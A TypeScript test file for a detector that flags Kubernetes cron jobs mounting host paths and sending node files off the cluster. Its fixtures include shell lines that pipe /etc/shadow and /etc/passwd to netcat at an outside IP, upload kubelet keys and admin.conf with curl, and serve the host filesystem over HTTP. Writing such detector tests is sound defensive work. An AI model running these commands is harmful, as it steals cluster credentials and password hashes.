import { blank, cronJob, indicatorTable, mounting, script, scriptOn, UNSEEN } from '../testing.ts';
import { commandHostFileSend } from './host-file-send.ts';

const onMount = (path: string, mountPath: string, text: string) =>
  cronJob(mounting(path, { mountPath, readOnly: true }, ['sh', '-c', text]));

indicatorTable(commandHostFileSend, {
  fires: {
    'the node as a web site': cronJob(
      mounting('/', {}, ['python3', '-m', 'http.server', '8000', '--directory', '/host']),
    ),
    'password hashes through netcat': scriptOn('/etc', 'cat /host/shadow /host/passwd | nc -w 3 203.0.113.7 4444'),
    'keys of the kubelet in an archive': onMount(
      '/var/lib/kubelet',
      '/k',
      'tar czf - /k/pki /k/config.yaml | curl -s -T - https://files.example.com/a.tgz',
    ),
    'the configuration of the cluster as a form': onMount(
      '/etc/kubernetes',
      '/k',
      'curl -F f=@/k/admin.conf https://files.example.com/u',
    ),
  },
  staysSilent: {
    'pages of the container': cronJob(
      mounting('/', {}, ['python3', '-m', 'http.server', '8000', '--directory', '/srv']),
    ),
    'files of an application': onMount(
      '/data/shop',
      '/d',
      'tar czf - /d/a | curl -T - https://backup.example.com/a.tgz',
    ),
    'a backup that stays in the cluster': onMount(
      '/etc',
      '/h',
      'tar czf - /h/x | curl -T - http://minio.backup.svc:9000/a',
    ),
    'files of the container': script('cat /etc/passwd | nc 203.0.113.7 4444'),
    'files of the node that are only read': scriptOn('/etc', 'cat /host/shadow'),
    'no host path': blank,
  },
  cannotTell: UNSEEN,
});
